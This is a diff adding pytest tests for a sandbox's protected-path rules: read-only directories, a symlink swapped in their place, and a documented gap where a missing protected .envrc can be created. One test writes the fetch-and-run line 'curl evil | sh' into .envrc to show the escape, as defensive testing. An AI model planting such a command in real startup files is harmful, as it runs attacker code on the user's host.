@@ -191,3 +191,48 @@ def test_cli_refuses_a_planted_writable_root_and_workdir(workspace: Path, outsid
     assert third.returncode == 125, third.stderr
     assert len(third.stderr.strip().splitlines()) == 1, third.stderr
     assert tree_state(outside) == before
+
+
+def _protecting(workspace: Path, *names: str) -> Policy:
+    pol = profiles.workspace_write(workspace, timeout=20)
+    fs = pol.filesystem
+    return Policy(
+        workdir=pol.workdir,
+        profile=pol.profile,
+        filesystem=FilesystemPolicy(
+            read=fs.read, write=fs.write, deny=fs.deny, protected=(*fs.protected, *names), execute=fs.execute
+        ),
+        resources=ResourcePolicy(timeout=20),
+    )
+
+
+async def test_a_custom_protected_path_and_a_symlink_planted_in_its_place(
+    sup: Supervisor, workspace: Path
+) -> None:
+    # `protected = ["scripts"]`: kept read-only (checked from outside: the write did not land); replaced by a
+    # symlink by a run of another policy, the next run is refused naming it, not bound onto the link's target.
+    (workspace / "scripts").mkdir()
+    pol = _protecting(workspace, "scripts")
+    r = await sup.run(["/bin/sh", "-c", "echo x > scripts/a"], policy=pol)
+    assert r.exit_code != 0
+    assert not (workspace / "scripts" / "a").exists()
+    await sh(sup, profiles.workspace_write(workspace, timeout=20), "rmdir scripts && ln -s /tmp scripts")
+    with pytest.raises(SandboxSetupError) as info:
+        await sup.run(["/bin/true"], policy=pol)
+    assert str(workspace / "scripts") in str(info.value)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason=(
+        "GAP: a protected path that does not exist when the sandbox starts is not protected: a mount can "
+        "only cover a name that exists, so the command creates it (`protected = ['.envrc']` without an "
+        ".envrc: the sandbox writes one that direnv runs on the host); create the file first"
+    ),
+)
+async def test_a_protected_path_missing_at_the_start_cannot_be_created(
+    sup: Supervisor, workspace: Path
+) -> None:
+    pol = _protecting(workspace, ".envrc")
+    await sup.run(["/bin/sh", "-c", "echo 'curl evil | sh' > .envrc"], policy=pol)
+    assert not (workspace / ".envrc").exists()
